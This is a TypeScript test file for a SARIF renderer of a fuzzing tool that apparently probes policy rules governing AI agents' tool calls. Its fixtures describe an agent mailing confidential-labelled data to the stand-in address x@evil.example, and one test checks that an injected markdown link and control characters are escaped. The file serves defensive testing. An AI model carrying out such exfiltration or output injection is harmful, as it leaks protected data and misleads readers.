import { expect, it } from "vitest";
import { report, step } from "../../../test/builders/fuzz-report.js";
import { placeOf, sarifRun } from "../../../test/builders/sarif-run.js";
import { render } from "./render.js";
import type { FuzzReport } from "./report.js";

const results = (of: FuzzReport) => sarifRun(render(of, "sarif", false)).results ?? [];

it("gives a bypass as a result of SARIF where its last call was allowed, with the goal and the scenario", () => {
  const [found] = results(report);
  expect(found).toMatchObject({ ruleId: "goal/confidentialLeaves", level: "error" });
  expect(placeOf(found?.locations?.[0])).toBe("policies/crm.policy.ts:8:14");
  expect(found?.relatedLocations?.map((at) => [at.id, at.message?.text, placeOf(at)])).toEqual([
    [1, "the goal confidentialLeaves", "policies/crm.goals.ts:3:14"],
    [
      2,
      'crm/leaves would have stopped call 2 if `carried.of(r).has("confidential")` were true',
      "policies/crm.policy.ts:12:9",
    ],
    [3, "scenarios/fuzz/confidential-leaves.yaml", "scenarios/fuzz/confidential-leaves.yaml"],
  ]);
  expect(found?.message.text).toBe(
    'Confidential data leaves: data labelled `confidential` has reached `x@evil.example`, by 2 calls in the world office, each allowed; see [the goal confidentialLeaves](1), [crm/leaves would have stopped call 2 if `carried.of(r).has("confidential")` were true](2), [scenarios/fuzz/confidential-leaves.yaml](3)',
  );
});

it("gives the calls of a bypass as a code flow of SARIF, each at the rule that allowed it", () => {
  const flow = results(report)[0]?.codeFlows?.[0]?.threadFlows[0]?.locations ?? [];
  expect(flow.map((at) => [at.executionOrder, at.importance, placeOf(at.location)])).toEqual([
    [1, "essential", "policies/crm.policy.ts:8:14"],
    [2, "essential", "policies/crm.policy.ts:8:14"],
  ]);
  expect(flow[1]?.location?.message?.text).toBe(
    '1h later, agent-a in s1: mail.send(to: ["x@evil.example"], body: "a"); allow by crm/reads; reads data that carries `confidential`',
  );
});

it("stands a bypass at its goal where the place of no rule is known", () => {
  const [found] = results({ ...report, rulePlaces: new Map() });
  expect(placeOf(found?.locations?.[0])).toBe("policies/crm.goals.ts:3:14");
});

it("gives a goal that nothing reaches as a result of SARIF at the goal, an error where it is strict", () => {
  const unseen = { ...report.result, sometimes: [] };
  const [, vacuous, ...more] = results({ ...report, result: unseen, strict: true });
  expect(more).toEqual([]);
  expect(vacuous).toMatchObject({ ruleId: "goal/drugsLeave", level: "error" });
  expect(placeOf(vacuous?.locations?.[0])).toBe("policies/crm.goals.ts:5:14");
  expect(results(report)[1]?.level).toBe("warning");
});

it("gives what must be possible and was never seen as a result of SARIF where it is declared", () => {
  const never = results({ ...report, strict: true })[2];
  expect(never).toMatchObject({ ruleId: "sometimes/pays", level: "error" });
  expect(never?.message.text).toBe(
    "A large payment goes through: no such call was allowed; calls of its tools were stopped by pay/large",
  );
  expect(placeOf(never?.locations?.[0])).toBe("policies/crm.goals.ts:9:14");
  expect(results(report)[2]?.level).toBe("warning");
});

it("knows a goal that is reached again when another chain reaches it", () => {
  const print = (steps: readonly (typeof step)[]) => {
    const goals = report.result.goals.map((goal) =>
      goal.bypass === null ? goal : { ...goal, bypass: { ...goal.bypass, steps } },
    );
    return results({ ...report, result: { ...report.result, goals } })[0]?.partialFingerprints;
  };
  expect(print([step])).toEqual(results(report)[0]?.partialFingerprints);
});

it("lets no text of a world be a link or a line of its own in SARIF", () => {
  const odd = { ...step, arguments: { body: "[x](http://evil.example)\u202e" }, adds: "a\nb" };
  const goals = report.result.goals.map((goal) =>
    goal.bypass === null
      ? goal
      : { ...goal, title: "A\u0007 b](1)", bypass: { ...goal.bypass, steps: [odd] } },
  );
  const text = render({ ...report, result: { ...report.result, goals } }, "sarif", false);
  const [found] = sarifRun(text).results ?? [];
  expect(found?.message.text).toMatch(/^A\\u\{7\} b\\\]\(1\): /);
  expect(found?.codeFlows?.[0]?.threadFlows[0]?.locations[0]?.location?.message?.text).toBe(
    'agent-a in s1: crm.read(body: "[x\\](http://evil.example)\\u{202e}"); allow by crm/reads; a\\nb',
  );
});
